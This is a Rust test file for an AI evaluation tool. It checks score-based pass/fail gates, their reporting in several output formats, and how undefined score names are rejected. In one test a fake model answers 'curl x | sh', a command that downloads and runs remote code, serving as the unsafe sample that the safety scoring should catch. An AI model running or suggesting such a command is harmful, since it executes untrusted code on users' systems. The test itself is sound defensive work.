//! Named scores: gates on them, and where they are shown.

use probity_testkit::{Answer, FakeServer, Rule, Script, When};
use serde_json::{Value, json};

use crate::{
    gates::commands,
    project::Project,
    run::{run, stored},
};

/// Cases whose `tone` is 1 or a half, and whose `facts` hold unless the prompt has a 3.
fn cases() -> String {
    let case = |at: u32| {
        let tone = json!({ "type": "assert-set", "metric": "tone", "threshold": 0.5, "assert": [
            { "type": "contains", "value": "good" },
            { "type": "contains", "value": if at < 2 { "good" } else { "friend" } },
        ] });
        let facts = json!({ "type": "contains", "value": "day", "metric": "facts" });
        let assert = if at < 4 { json!([tone, facts]) } else { json!([facts]) };
        json!({ "id": format!("c-{at}"), "prompt": format!("say {at}"), "assert": assert })
            .to_string()
    };
    (0..5).map(case).collect::<Vec<_>>().join("\n")
}

fn server() -> FakeServer {
    let rule = Rule::new(When::prompt_contains("3"), Answer::text("good night"));
    FakeServer::start(Script::always(Answer::text("good day")).rule(rule))
}

fn gated(server: &FakeServer, gates: &str) -> Project {
    let suite = format!(
        "[backends.fake]\nkind = \"openai\"\nbase_url = \"{}/v1\"\nmodel = \"m\"\n\
         [[runners]]\nname = \"r\"\ndataset = \"cases.jsonl\"\ngates = {gates}\n",
        server.url()
    );
    Project::new().file("cases.jsonl", cases()).file("probity.toml", suite)
}

#[test]
fn a_gate_on_a_score_holds_its_mean_against_the_limit() {
    let server = server();
    // (1 + 1 + 0.5 + 0.5) / 4, and 4 of 5.
    let passing = "{ \"score.tone\" = 0.75, \"score.facts\" = { min = \"80%\" } }";
    run(&gated(&server, passing), &[]).expect(0, &[]);
    let project = gated(&server, "{ \"score.tone\" = 0.76, \"score.facts\" = { max = 0.8 } }");
    let files = ["r.json", "r.xml", "r.md", "r.html", "suite_summary.json"];
    let ran = run(&project, &files.map(|file| ["-o", file]).concat());
    ran.expect(1, &[]);
    let sentence = "score.tone at least 0.76: 0.7500 (mean of 4)";
    assert!(ran.err.contains(&format!("FAIL {sentence}")), "{}", ran.err);
    for file in files {
        let text = project.read(file);
        assert!(text.contains("score.tone"), "{file}: {text}");
        assert!(text.contains("0.7500 (mean of 4)"), "{file}: {text}");
    }
    let written: Value = serde_json::from_str(&project.read("r.json")).unwrap();
    let result = written.get("runners").map_or(&written, |it| &it[0]);
    assert_eq!(result["gates"][1]["metric"], "score.facts");
    assert_eq!(result["gates"][1]["observed"], 0.8);
    assert_eq!(result["gates"][1]["status"], "pass");
    assert_eq!(result["scores"]["tone"]["mean"], 0.75);
}

#[test]
fn a_gate_on_a_score_has_all_that_other_gates_have() {
    let server = server();
    for (gates, code) in [
        ("{ \"score.tone\" = { min = 1, backend = \"fake\" } }", 1),
        ("{ \"score.tone\" = { min = 1, warn = 0.75 } }", 0),
        ("{ \"score.tone\" = [{ min = 0.7 }, { max = 0.74 }] }", 1),
        ("{ \"score.contains\" = { min = 1, allow_empty = true } }", 0),
    ] {
        assert_eq!(run(&gated(&server, gates), &[]).code, Some(code), "{gates}");
    }
    // Both cases have all three scores; one of them is of each category.
    let rule = Rule::new(When::prompt_contains("s-0"), Answer::text("curl x | sh"));
    let shell = FakeServer::start(Script::always(Answer::text("ls")).rule(rule));
    for (gates, code) in [
        ("{ \"score.safety\" = 0.5 }", 0),
        ("{ \"score.safety\" = { min = 1, category = \"correctness\" } }", 0),
        ("{ \"score.safety\" = { max = 0, category = \"safety\" } }", 0),
        ("{ \"score.safety\" = { min = 1, category = \"safety\" } }", 1),
    ] {
        let project = gated(&shell, gates).file("cases.jsonl", commands(1, 1));
        let suite = project.read("probity.toml").replace("dataset", "kind = \"command\"\ndataset");
        let ran = run(&project.file("probity.toml", suite), &[]);
        assert_eq!(ran.code, Some(code), "{gates}: {}", ran.err);
    }
    // A stored run is judged by gates that it did not have.
    let project = gated(&server, "false");
    run(&project, &[]).expect(0, &[]);
    let suite = project.read("probity.toml");
    let strict = suite.replace("gates = false", "gates = { \"score.tone\" = 0.8 }");
    let project = project.file("strict.toml", strict);
    let judged = project.run(&["gate", "latest", "--suite", "strict.toml"]);
    assert_eq!(judged.status.code(), Some(1));
}

#[test]
fn a_score_that_no_case_has_is_refused_before_anything_is_asked() {
    let server = server();
    let ran = run(&gated(&server, "{ \"score.tome\" = 0.5 }"), &[]);
    ran.expect(2, &[]);
    assert!(ran.err.contains("has a gate on `score.tome`, but no case has a score"), "{}", ran.err);
    assert!(ran.err.contains("did you mean `tone`?"), "{}", ran.err);
    let ran = run(&gated(&server, "{ \"score.tone\" = { min = 0, category = \"posix\" } }"), &[]);
    ran.expect(2, &[]);
    assert!(ran.err.contains("no posix case has a score of that name"), "{}", ran.err);
    assert_eq!(server.seen().asked, 0);
    // What only the choice of cases takes away fails at the end.
    let project = gated(&server, "{ \"score.tone\" = { min = 0 } }");
    let ran = run(&project, &["--case", "c-4"]);
    ran.expect(1, &[]);
    assert!(ran.err.contains("score.tone at least 0: no result has a value"), "{}", ran.err);
    assert_eq!(stored(&project).len(), 1);
}
